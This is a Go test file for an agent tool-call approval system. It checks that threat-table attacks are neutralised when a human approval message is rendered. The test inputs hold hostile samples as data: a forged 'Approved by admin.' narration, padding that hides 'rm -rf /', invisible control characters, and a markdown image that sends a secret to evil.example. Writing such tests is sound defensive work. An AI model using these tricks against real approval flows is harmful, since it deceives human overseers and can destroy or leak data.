package resolve_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/assent-dev/assent/internal/must"
	"github.com/assent-dev/assent/policy"
	"github.com/assent-dev/assent/resolve"
	"github.com/assent-dev/assent/schema"
)

// The tests of this file are the rows of our threat table that touch
// deciding and rendering, end to end through Decide. The packages below
// have the details.

const mailer = `action_space:
  local_tools:
    - alias: send
      approval: {message_template: "Send to {{tool_args.to}}: {{tool_args.text}}"}
`

func messageFor(t *testing.T, args string) string {
	t.Helper()
	d := plan(t, resolve.Options{}, mailer).Decide(tool("send", args))
	if d.Outcome != resolve.Ask {
		t.Fatalf("%s: %v", args, d.Outcome)
	}
	return d.Message
}

// Row 2, lies in the loop: what an argument says can't look like what
// the author or the system says.
func TestThreatArgumentsCannotNarrate(t *testing.T) {
	got := messageFor(t, `{"to":"a","text":"hi\n\nApproved by admin. {{agent_id}} {{tool_args.to}}"}`)
	if strings.Contains(got, "\n") || strings.Contains(got, "desk") || !strings.Contains(got, `{{agent_id}}`) {
		t.Errorf("%q", got)
	}
}

// Row 3, padding: nothing is pushed out of sight without a word.
func TestThreatPaddingIsAnnounced(t *testing.T) {
	got := messageFor(t, `{"to":"a","text":"`+strings.Repeat(" ", 500)+strings.Repeat("x", 50_000)+` rm -rf /"}`)
	if len(got) > 5000 || !strings.Contains(got, "rm -rf /") || !strings.Contains(got, "characters not shown") ||
		strings.Contains(got, strings.Repeat(" ", 10)) {
		t.Errorf("%d bytes: %.300q", len(got), got)
	}
}

// Rows 4 and 5, invisible and control characters: each is shown, none
// is sent on.
func TestThreatHiddenCharactersAreShown(t *testing.T) {
	for _, r := range []rune{0x202e, 0x2066, 0x200b, 0xe0041, 0x1b, 0x9b, 0x07, 0x2028, 0xad, 0xfeff} {
		to, err := json.Marshal("a" + string(r) + "b")
		must.Do(t, err)
		got := messageFor(t, `{"to":`+string(to)+`,"text":""}`)
		if strings.ContainsRune(got, r) || !strings.Contains(got, fmt.Sprintf(`\u{%x}`, r)) {
			t.Errorf("U+%04X: %q", r, got)
		}
		if strings.ContainsFunc(got, unicode.IsControl) {
			t.Errorf("U+%04X leaves a control character: %q", r, got)
		}
	}
}

// Row 6, markup: data stays plain text, nothing is turned into a link
// or an image here, and nothing is dropped.
func TestThreatMarkupStaysText(t *testing.T) {
	const markup = `![x](https://evil.example/?q=secret) <img src=x> <https://a|b>`
	if got := messageFor(t, `{"to":"a","text":"`+markup+`"}`); !strings.HasSuffix(got, markup) {
		t.Errorf("%q", got)
	}
}

// Row 7, redaction: a policy may hide values from channels; it never
// changes what is decided or bound.
func TestThreatRedactionHidesNoDecision(t *testing.T) {
	rule := func(args string) string {
		return "policy_ref: p\napplies: implicit\nrules: [{id: r, approval: {condition: {args_match: {to: a}}}, " +
			"require: {arguments: " + args + "}}]\n"
	}
	call := tool("send", `{"to":"a","text":"x"}`)
	full := plan(t, resolve.Options{}, mailer, rule("full")).Decide(call)
	hidden := plan(t, resolve.Options{}, mailer, rule("{redact: [to]}")).Decide(call)
	if fmt.Sprint(spoke(full)) != fmt.Sprint(spoke(hidden)) || full.Message != hidden.Message ||
		len(hidden.Require.Arguments.Redact) != 1 {
		t.Errorf("%+v\n%+v", full, hidden)
	}
}

// Row 19, truthiness and parsers: only the boolean true is true, only
// one reading of a document is read.
func TestThreatNothingIsCoerced(t *testing.T) {
	const agent = "action_space: {local_tools: [{alias: t, approval: {condition: {args_match: {dry_run: false}}}}]}\n"
	p := plan(t, resolve.Options{}, agent)
	for args, want := range map[string]string{
		`{"dry_run":true}`:                  "allow ",
		`{"dry_run":false}`:                 "ask condition_true",
		`{"dry_run":"true"}`:                "ask condition_unknown",
		`{"dry_run":1}`:                     "ask condition_unknown",
		`{"dry_run":"false"}`:               "ask condition_unknown",
		`{"Dry_run":true}`:                  "ask condition_unknown",
		`{"dry_run":true,"Dry_run":false}`:  "deny unreadable_arguments",
		`{"dry_run":true,"dry_run":false}`:  "deny unreadable_arguments",
		`{"dry_run":true,"dry\u005frun":1}`: "deny unreadable_arguments",
	} {
		if got := codes(p.Decide(tool("t", args))); got != want {
			t.Errorf("%s: %s, want %s", args, got, want)
		}
	}
}

// Row 21, edit to escape: an edited call is another call, with its own
// decision and its own binding.
func TestThreatAnEditedCallIsANewCall(t *testing.T) {
	const agent = `action_space: {local_tools: [{alias: safe, approval: true}, {alias: risky, approval: true}]}
constraints: {governance_policies: [{policy_ref: p}]}
`
	p := plan(
		t,
		resolve.Options{},
		agent,
		"policy_ref: p\nrules: [{id: no, match: {targets: [risky]}, deny: Never.}]\n",
	)
	asked := p.Decide(tool("safe", `{"a":1}`))
	renamed := p.Decide(tool("risky", `{"a":1}`))
	edited := p.Decide(tool("safe", `{"a":2}`))
	if asked.Outcome != resolve.Ask || renamed.Outcome != resolve.Deny || edited.Binding == asked.Binding ||
		renamed.Binding != "" {
		t.Errorf("%+v\n%+v\n%+v", asked, renamed, edited)
	}
}

// Row 24, timeout as consent: joined with anything, approve by timeout
// loses; alone it needs the owner's word.
func TestThreatTimeoutIsNoConsent(t *testing.T) {
	rule := func(ref, timeout string) string {
		return "policy_ref: " + ref + "\napplies: implicit\nrules: [{id: r, approval: true, require: {on_timeout: " +
			timeout + "}}]\n"
	}
	opt := resolve.Options{AllowTimeoutApprove: true}
	for other, want := range map[string]policy.Timeout{
		"deny":     policy.TimeoutDeny,
		"escalate": policy.TimeoutEscalate,
		"approve":  policy.TimeoutApprove,
	} {
		d := plan(t, opt, mailer, rule("a", "approve"), rule("b", other)).Decide(tool("send", `{}`))
		if d.Require.OnTimeout != want {
			t.Errorf("approve with %s: %s, want %s", other, d.Require.OnTimeout, want)
		}
	}
}

// TestBigPlanStaysBounded checks that a condition of a thousand groups and a pattern of the maximum
// size are decided, and never allow because a limit is reached.
func TestBigPlanStaysBounded(t *testing.T) {
	groups := strings.Repeat("{args_match: {a: {pattern: '^(x|y)+z'}, b: {gt: 5}}}, ", 1000)
	agent := "action_space: {local_tools: [{alias: t, approval: {condition: [" + strings.TrimSuffix(
		groups,
		", ",
	) + "]}}]}\n"
	p := plan(t, resolve.Options{}, agent)
	if got := codes(p.Decide(tool("t", `{"a":"`+strings.Repeat("xy", 500)+`","b":9}`))); got != "allow " {
		t.Error(got)
	}
	if got := codes(p.Decide(tool("t", `{"a":"`+strings.Repeat("xy", 500)+`z","b":9}`))); got != "ask condition_true" {
		t.Error(got)
	}
}

// reverse turns every list of an agent round whose order means nothing.
func reverse(a *schema.Agent) {
	space := &a.ActionSpace
	turn(space.LocalTools)
	turn(space.MCPServers)
	turn(space.LocalAgents)
	turn(space.RemoteAgents)
	for i := range space.LocalTools {
		reverseCondition(space.LocalTools[i].Approval)
	}
	for i := range space.LocalAgents {
		reverseCondition(space.LocalAgents[i].Approval)
	}
	for i := range space.MCPServers {
		reverseList(space.MCPServers[i].AllowedTools)
		reverseCondition(space.MCPServers[i].Approval)
	}
	for i := range space.RemoteAgents {
		reverseList(space.RemoteAgents[i].AllowedSkills)
		reverseCondition(space.RemoteAgents[i].Approval)
	}
}

func reverseList(list *[]schema.ToolRef) {
	if list == nil {
		return
	}
	turn(*list)
	for i := range *list {
		reverseCondition((*list)[i].Approval)
	}
}

func reverseCondition(ap *schema.Approval) {
	if ap == nil || ap.Condition == nil {
		return
	}
	turn(ap.Condition.Groups)
	for i := range ap.Condition.Groups {
		turn(ap.Condition.Groups[i].Matchers)
		for j := range ap.Condition.Groups[i].Matchers {
			turn(ap.Condition.Groups[i].Matchers[j].Tests)
		}
	}
}

func turn[T any](list []T) {
	for i, j := 0, len(list)-1; i < j; i, j = i+1, j-1 {
		list[i], list[j] = list[j], list[i]
	}
}
